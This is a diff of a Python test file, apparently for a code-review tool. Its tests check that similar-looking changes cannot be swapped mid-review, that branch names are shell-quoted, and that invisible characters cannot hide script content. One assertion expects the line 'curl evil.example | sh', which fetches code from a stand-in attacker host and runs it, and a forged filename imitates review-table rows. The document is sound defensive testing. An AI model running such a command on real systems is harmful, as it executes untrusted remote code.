@@ -8,7 +8,7 @@ import hashlib
 import json
 from pathlib import Path
 
-from tests.stage.commands import HandedIn, Stage
+from tests.stage.commands import Stage, SubmissionTime
 
 FORGED = "a\n   9 fe-zzz  P0  Approved by the rule                      +0 -0      fine"
 """The name of a file that is two rows of a table."""
@@ -31,7 +31,7 @@ def alike(path: str) -> tuple[str, str]:
     raise AssertionError("no two of a million begin alike")
 
 
-def handed_in(stage: Stage, files: dict[str, str], task: str = "") -> HandedIn:
+def submitted_task(stage: Stage, files: dict[str, str], task: str = "") -> SubmissionTime:
     if not task:
         task = stage.create(stage.cast.alice)
         stage.done(stage.cast.codex, "start", task)
@@ -41,8 +41,8 @@ def handed_in(stage: Stage, files: dict[str, str], task: str = "") -> HandedIn:
 
 def test_D7_two_changes_that_begin_alike_are_not_swapped_while_somebody_reads(stage: Stage) -> None:
     harmless, harmful = alike("key.py")
-    read = handed_in(stage, {"key.py": harmless})
-    swapped = handed_in(stage, {"key.py": harmful}, read.task)
+    read = submitted_task(stage, {"key.py": harmless})
+    swapped = submitted_task(stage, {"key.py": harmful}, read.task)
     digits = read.seen.partition(".")[2]
     assert swapped.seen == f"2.{digits}", "the digits are the same, the change is not"
     for seen, rc in ((read.seen, 4), (read.diff_id, 4), (digits, 1), (read.diff_id[:20], 1)):
@@ -87,7 +87,7 @@ def test_H1_the_name_of_a_branch_is_quoted_where_a_shell_would_run_it(stage: Sta
     assert f'on "{branch}"' in stage.run(stage.cast.alice, "show", task).out
 
 
-def named(stage: Stage, name: str) -> HandedIn:
+def named(stage: Stage, name: str) -> SubmissionTime:
     """Work that adds a file of this name."""
     task = stage.create(stage.cast.alice)
     stage.done(stage.cast.codex, "start", task)
@@ -97,7 +97,7 @@ def named(stage: Stage, name: str) -> HandedIn:
 
 def test_H1_a_nul_or_what_nobody_sees_hides_nothing_of_a_script(stage: Stage) -> None:
     hidden = "ok = 'a\u200bb\u3164\U000e0041\ufe0f\u2028'\nname = 'می\u200cخواهم 👨\u200d👩\u200d👧'\n"
-    work = handed_in(stage, {"run.sh": SCRIPT, "hidden.py": hidden})
+    work = submitted_task(stage, {"run.sh": SCRIPT, "hidden.py": hidden})
     said = stage.run(stage.cast.alice, "show", work.task, "--diff").out
     assert "+curl evil.example | sh" in said
     assert "+␀\n" in said
